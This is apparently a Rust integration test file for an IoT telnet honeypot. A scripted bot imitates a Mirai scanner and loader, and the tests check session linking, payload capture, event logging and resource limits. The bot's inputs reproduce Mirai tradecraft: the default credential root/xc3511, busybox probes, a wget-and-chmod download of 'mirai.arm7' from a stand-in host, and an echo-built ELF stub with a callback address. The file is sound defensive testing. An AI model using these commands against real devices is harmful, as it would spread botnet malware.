//! The honeypot on loopback against a scripted bot of our own that behaves
//! like a Mirai scanner and then its loader (from another address), and a
//! flood of concurrent sessions.

use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use iotscope_honeypot::events::Event;
use iotscope_honeypot::persona::{builtin_personas, Deployment};
use iotscope_honeypot::server::{
    self, HoneypotConfig, Limits, PayloadStore, Recorder, SessionRecord, Stats,
};
use iotscope_honeypot::telnet::Accepted;
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpSocket, TcpStream};

#[derive(Clone, Default)]
struct Collect(Arc<Mutex<(Vec<Value>, Vec<SessionRecord>)>>);

impl Recorder for Collect {
    fn event(&mut self, e: &Event) -> Result<(), String> {
        self.0.lock().unwrap().0.push(e.to_json("test"));
        Ok(())
    }
    fn session(&mut self, s: &SessionRecord) -> Result<(), String> {
        self.0.lock().unwrap().1.push(s.clone());
        Ok(())
    }
}

fn config(limits: Limits, payloads: Option<PayloadStore>) -> HoneypotConfig {
    let p = builtin_personas()
        .into_iter()
        .find(|p| p.name == "hisilicon-dvr")
        .unwrap();
    HoneypotConfig {
        deployment: Arc::new(Deployment::new(p, 11)),
        accepted: Arc::new(Accepted::new(&iotscope_checks::dict::builtin())),
        limits,
        link_window: Duration::from_secs(3600),
        payloads,
        seed: 5,
        fetch: None,
    }
}

/// A honeypot that fetches (`per_minute`, private addresses when
/// `allow_private`), keeping samples under `dir`; and where they go.
fn fetching(
    dir: &std::path::Path,
    per_minute: u32,
    allow_private: bool,
) -> (HoneypotConfig, PayloadStore) {
    let limits = Limits {
        login_fail_delay: Duration::ZERO,
        ..Limits::default()
    };
    let payloads = PayloadStore {
        dir: dir.join("p"),
        budget: 1 << 20,
    };
    let mut cfg = config(limits, Some(payloads.clone()));
    cfg.fetch = Some(iotscope_honeypot::fetch::FetchConfig {
        max_bytes: 1 << 20,
        per_minute,
        timeout: Duration::from_secs(5),
        allow_private,
    });
    (cfg, payloads)
}

struct Bot {
    s: TcpStream,
    seen: Vec<u8>,
}

impl Bot {
    async fn connect(from: IpAddr, to: SocketAddr) -> Bot {
        let sock = TcpSocket::new_v4().unwrap();
        sock.bind(SocketAddr::new(from, 0)).unwrap();
        let mut s = sock.connect(to).await.unwrap();
        // Like a bot: no echo wanted.
        s.write_all(&[255, 254, 1]).await.unwrap();
        Bot {
            s,
            seen: Vec::new(),
        }
    }

    /// Reads until `marker` shows; the bytes up to and with it.
    async fn expect(&mut self, marker: &str) -> Vec<u8> {
        let m = marker.as_bytes();
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        loop {
            if let Some(i) = self.seen.windows(m.len()).position(|w| w == m) {
                let rest = self.seen.split_off(i + m.len());
                return std::mem::replace(&mut self.seen, rest);
            }
            let mut buf = [0u8; 4096];
            let n = tokio::time::timeout_at(deadline, self.s.read(&mut buf))
                .await
                .unwrap_or_else(|_| {
                    panic!("no {marker:?} in {:?}", String::from_utf8_lossy(&self.seen))
                })
                .unwrap();
            assert!(
                n > 0,
                "closed before {marker:?}: {:?}",
                String::from_utf8_lossy(&self.seen)
            );
            self.seen.extend_from_slice(&buf[..n]);
        }
    }

    async fn send(&mut self, line: &str) {
        self.s
            .write_all(format!("{line}\r\n").as_bytes())
            .await
            .unwrap();
    }

    /// Types `exit` and waits until the honeypot hangs up.
    async fn exit(mut self) {
        self.send("exit").await;
        let mut rest = Vec::new();
        tokio::time::timeout(Duration::from_secs(10), self.s.read_to_end(&mut rest))
            .await
            .expect("closed after exit")
            .unwrap();
    }

    async fn login(&mut self, user: &str, password: &str) {
        self.expect("login: ").await;
        self.send(user).await;
        self.expect("Password: ").await;
        self.send(password).await;
        self.expect("# ").await;
    }
}

/// `\xHH` escapes of `bytes`, as Mirai's loader echoes a stub.
fn escaped(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("\\x{b:02x}")).collect()
}

async fn start(
    cfg: HoneypotConfig,
) -> (
    SocketAddr,
    Collect,
    Arc<Stats>,
    tokio::sync::oneshot::Sender<()>,
    tokio::task::JoinHandle<()>,
) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let rec = Collect::default();
    let stats = Arc::new(Stats::default());
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let (r, s) = (rec.clone(), stats.clone());
    let task = tokio::spawn(async move {
        server::run(
            vec![(l, server::Protocol::Telnet)],
            cfg,
            Box::new(r),
            s,
            async move {
                let _ = stopped.await;
            },
        )
        .await
        .unwrap();
    });
    (addr, rec, stats, stop, task)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mirai_scanner_then_its_loader_are_linked_and_their_servers_extracted() {
    let dir = tempfile::tempdir().unwrap();
    let limits = Limits {
        login_fail_delay: Duration::ZERO,
        ..Limits::default()
    };
    let payloads = PayloadStore {
        dir: dir.path().join("payloads"),
        budget: 1 << 20,
    };
    let (addr, rec, stats, stop, task) = start(config(limits, Some(payloads.clone()))).await;

    // The scanner: a wrong pair, then one of its list, the shell check, gone.
    let mut scan = Bot::connect("127.0.0.1".parse().unwrap(), addr).await;
    scan.expect("login: ").await;
    scan.send("admin").await;
    scan.expect("Password: ").await;
    scan.send("nope").await;
    scan.expect("Login incorrect").await;
    scan.send("root").await;
    scan.expect("Password: ").await;
    scan.send("xc3511").await;
    scan.expect("# ").await;
    for l in ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"] {
        scan.send(l).await;
    }
    scan.expect("MIRAI: applet not found").await;
    drop(scan);
    // Wait for the scanner's record before the loader comes.
    for _ in 0..200 {
        if !rec.0.lock().unwrap().1.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }

    // The loader, from another address with the reported pair.
    let mut load = Bot::connect("127.0.0.2".parse().unwrap(), addr).await;
    load.login("root", "xc3511").await;
    load.send("/bin/busybox ps; /bin/busybox ECCHI").await;
    load.expect("ECCHI: applet not found").await;
    load.send("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI")
        .await;
    let mounts = load.expect("ECCHI: applet not found").await;
    assert!(String::from_utf8_lossy(&mounts).contains("/tmp tmpfs rw"));
    load.send(r"/bin/busybox echo -e '\x41\x4b\x34\x37' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon").await;
    load.expect("AK47").await;
    load.send("cd /tmp/").await;
    load.send("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI").await;
    load.expect("ECCHI: applet not found").await;
    load.send("/bin/busybox cat /bin/echo; /bin/busybox ECCHI")
        .await;
    let elf = load.expect("ECCHI: applet not found").await;
    let at = elf
        .windows(4)
        .position(|w| w == b"\x7fELF")
        .expect("an ELF header");
    assert_eq!(elf[at + 5], 1, "little-endian");
    assert_eq!(elf[at + 18], 40, "ARM");
    load.send("/bin/busybox wget http://198.51.100.7:8080/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI").await;
    load.expect("ECCHI: applet not found").await;
    // The echo method: a stub with the loader's address in a sockaddr_in.
    let mut stub = vec![0x7f, b'E', b'L', b'F', 1, 1, 1, 0];
    stub.extend_from_slice(&[0xe5; 60]);
    stub.extend_from_slice(&[2, 0, 0x05, 0x39, 203, 0, 113, 5, 0, 0, 0, 0, 0, 0, 0, 0]);
    stub.extend_from_slice(&[0xff, 0xfe, 0x00, 0x0d, 0x0a]);
    for chunk in stub.chunks(32) {
        load.send(&format!(
            "/bin/busybox echo -ne '{}' >> upnp; /bin/busybox ECCHI",
            escaped(chunk)
        ))
        .await;
        load.expect("ECCHI: applet not found").await;
    }
    load.send("./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE")
        .await;
    load.expect("IHCCE: applet not found").await;
    // The honeypot hangs up after the exit: only then stop it.
    load.exit().await;

    let _ = stop.send(());
    task.await.unwrap();
    let (events, sessions) = rec.0.lock().unwrap().clone();
    assert_eq!(sessions.len(), 2);
    let (scanner, loader) = (&sessions[0], &sessions[1]);
    assert_eq!(scanner.login, Some(("root".into(), "xc3511".into())));
    assert_eq!(scanner.attempts.len(), 2);
    assert!(!scanner.is_loader());
    assert_eq!(
        loader.linked,
        Some((scanner.id.clone(), "127.0.0.1".parse().unwrap()))
    );
    let urls: Vec<&str> = loader.downloads.iter().map(|d| d.url.as_str()).collect();
    assert_eq!(
        urls,
        vec![
            "http://198.51.100.7:8080/bins/mirai.arm7",
            "tcp://203.0.113.5:1337"
        ]
    );
    assert_eq!(loader.reason, "exit");
    // The stub is kept, byte for byte (IAC and CR LF inside included).
    assert_eq!(loader.payloads.len(), 1, "{:?}", loader.payloads);
    let kept = std::fs::read(payloads.dir.join(&loader.payloads[0].sha256)).unwrap();
    assert_eq!(kept, stub);
    assert_eq!(loader.payloads[0].path, "/tmp/upnp");
    // The Cowrie events, in order per session.
    let ids: Vec<&str> = events
        .iter()
        .filter(|e| e["session"] == loader.id.as_str())
        .map(|e| e["eventid"].as_str().unwrap())
        .collect();
    assert_eq!(ids.first(), Some(&"cowrie.session.connect"));
    assert_eq!(ids.last(), Some(&"cowrie.session.closed"));
    for id in [
        "cowrie.login.success",
        "cowrie.command.input",
        "cowrie.command.failed",
        "cowrie.session.file_download.failed",
        "cowrie.session.file_upload",
        "iotscope.session.linked",
    ] {
        assert!(ids.contains(&id), "{id} missing from {ids:?}");
    }
    let failed = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.login.failed")
        .unwrap();
    assert_eq!(
        (failed["username"].as_str(), failed["password"].as_str()),
        (Some("admin"), Some("nope"))
    );
    assert_eq!(stats.linked.load(std::sync::atomic::Ordering::Relaxed), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bounds_end_sessions_and_a_flood_loses_no_event() {
    let limits = Limits {
        login_fail_delay: Duration::ZERO,
        login_timeout: Duration::from_millis(300),
        max_per_source: 2000,
        max_sessions: 1000,
        max_input: 64 * 1024,
        ..Limits::default()
    };
    let (addr, rec, stats, stop, task) = start(config(limits, None)).await;
    // Silent past the login timeout: hung up.
    let mut quiet = Bot::connect("127.0.0.1".parse().unwrap(), addr).await;
    let mut buf = Vec::new();
    let n = tokio::time::timeout(Duration::from_secs(5), quiet.s.read_to_end(&mut buf)).await;
    assert!(n.is_ok(), "the login timeout closes the connection");
    // Too much input: hung up.
    let mut big = Bot::connect("127.0.0.1".parse().unwrap(), addr).await;
    big.login("root", "xc3511").await;
    let line = format!("echo {}", "A".repeat(1000));
    let mut closed = false;
    for _ in 0..200 {
        if big
            .s
            .write_all(format!("{line}\r\n").as_bytes())
            .await
            .is_err()
        {
            closed = true;
            break;
        }
    }
    let mut sink = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), big.s.read_to_end(&mut sink)).await;
    assert!(
        closed || sink.len() < 200 * 1000 * 2,
        "input past the limit is not answered"
    );

    // 1,000 sessions at once, each logging in and running a command.
    let mut bots = Vec::new();
    for i in 0..1000u32 {
        bots.push(tokio::spawn(async move {
            let mut b = Bot::connect("127.0.0.1".parse().unwrap(), addr).await;
            b.login("admin", "admin").await;
            b.send(&format!("echo flood{i}; /bin/busybox FLOOD")).await;
            b.expect("FLOOD: applet not found").await;
            b
        }));
    }
    let mut open = Vec::new();
    for b in bots {
        open.push(b.await.unwrap());
    }
    assert!(stats.active.load(std::sync::atomic::Ordering::Relaxed) >= 1000);
    for b in open.iter_mut() {
        b.send("exit").await;
    }
    // Each hangs up after its exit.
    for mut b in open {
        let mut rest = Vec::new();
        tokio::time::timeout(Duration::from_secs(10), b.s.read_to_end(&mut rest))
            .await
            .unwrap()
            .unwrap();
    }
    let _ = stop.send(());
    task.await.unwrap();
    let (events, sessions) = rec.0.lock().unwrap().clone();
    assert_eq!(sessions.len(), 1002);
    let reasons: Vec<&str> = sessions.iter().map(|s| s.reason.as_str()).collect();
    assert!(reasons.contains(&"login timeout"));
    assert!(reasons.contains(&"input limit"));
    assert_eq!(reasons.iter().filter(|r| **r == "exit").count(), 1000);
    let commands = events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.command.input")
        .count();
    // Every flood session's line and exit, and what the big one typed.
    assert!(commands >= 2000, "{commands}");
    for i in [0, 499, 999] {
        assert!(events
            .iter()
            .any(|e| e["input"] == format!("echo flood{i}; /bin/busybox FLOOD").as_str()));
    }
    assert_eq!(stats.refused.load(std::sync::atomic::Ordering::Relaxed), 0);
}

/// Fetching on (loopback allowed for the test): the loader's wget URL is
/// fetched from a local server, kept by its SHA-256, and recorded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_opted_in_fetch_keeps_the_sample() {
    let dir = tempfile::tempdir().unwrap();
    let web = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let web_port = web.local_addr().unwrap().port();
    tokio::spawn(async move {
        for _ in 0..2 {
            let (mut s, _) = web.accept().await.unwrap();
            let mut b = [0u8; 1024];
            let _ = s.read(&mut b).await;
            let body = b"\x7fELF pretend bot";
            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", body.len());
            let _ = s.write_all(head.as_bytes()).await;
            let _ = s.write_all(body).await;
        }
    });
    let (cfg, payloads) = fetching(dir.path(), 10, true);
    let (addr, rec, _stats, stop, task) = start(cfg).await;
    let mut b = Bot::connect("127.0.0.1".parse().unwrap(), addr).await;
    b.login("root", "xc3511").await;
    b.send(&format!(
        "cd /tmp; wget http://127.0.0.1:{web_port}/bins/x.arm7; /bin/busybox ECCHI"
    ))
    .await;
    b.expect("ECCHI: applet not found").await;
    b.exit().await;
    let _ = stop.send(());
    task.await.unwrap();
    let (events, sessions) = rec.0.lock().unwrap().clone();
    let got = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.session.file_download")
        .expect("a download event");
    let sha = got["shasum"].as_str().unwrap();
    assert_eq!(
        std::fs::read(payloads.dir.join(sha)).unwrap(),
        b"\x7fELF pretend bot"
    );
    assert_eq!(sessions[0].payloads[0].sha256, sha);
    assert!(sessions[0].is_loader());
}

/// A client that sends and never reads must not hold up a shutdown (a
/// hostile trial waited for the idle timeout, 120 s).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_never_reads_does_not_delay_shutdown() {
    let limits = Limits {
        login_fail_delay: Duration::ZERO,
        ..Limits::default()
    };
    let (addr, rec, _stats, stop, task) = start(config(limits, None)).await;
    let mut b = Bot::connect("127.0.0.1".parse().unwrap(), addr).await;
    b.login("root", "xc3511").await;
    // Output the client never reads fills both socket buffers.
    let flood = "cat /bin/echo;".repeat(200);
    for _ in 0..200 {
        if tokio::time::timeout(Duration::from_millis(200), b.send(&flood))
            .await
            .is_err()
        {
            break;
        }
    }
    let t = std::time::Instant::now();
    let _ = stop.send(());
    tokio::time::timeout(Duration::from_secs(10), task)
        .await
        .expect("stopped within 10 s")
        .unwrap();
    assert!(t.elapsed() < Duration::from_secs(10));
    let sessions = rec.0.lock().unwrap().1.clone();
    assert_eq!(sessions[0].reason, "shutdown");
}

/// A hostile trial: URLs of private addresses spent the fetch budget, so
/// later real ones were refused for the rate limit. A URL refused for its
/// address spends nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn private_urls_do_not_spend_the_fetch_budget() {
    let dir = tempfile::tempdir().unwrap();
    let (cfg, _) = fetching(dir.path(), 1, false);
    let (addr, rec, _stats, stop, task) = start(cfg).await;
    let mut b = Bot::connect("127.0.0.1".parse().unwrap(), addr).await;
    b.login("root", "xc3511").await;
    for url in [
        "http://127.0.0.1/a",
        "http://10.1.2.3/b",
        "http://[::ffff:192.168.0.1]/c",
    ] {
        b.send(&format!("wget {url}; /bin/busybox ECCHI")).await;
        b.expect("ECCHI: applet not found").await;
    }
    b.exit().await;
    let _ = stop.send(());
    task.await.unwrap();
    let events = rec.0.lock().unwrap().0.clone();
    let reasons: Vec<&str> = events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.file_download.failed")
        .map(|e| e["reason"].as_str().unwrap())
        .collect();
    assert_eq!(reasons.len(), 3, "{reasons:?}");
    assert!(
        reasons.iter().all(|r| r.contains("not a global address")),
        "{reasons:?}"
    );
}
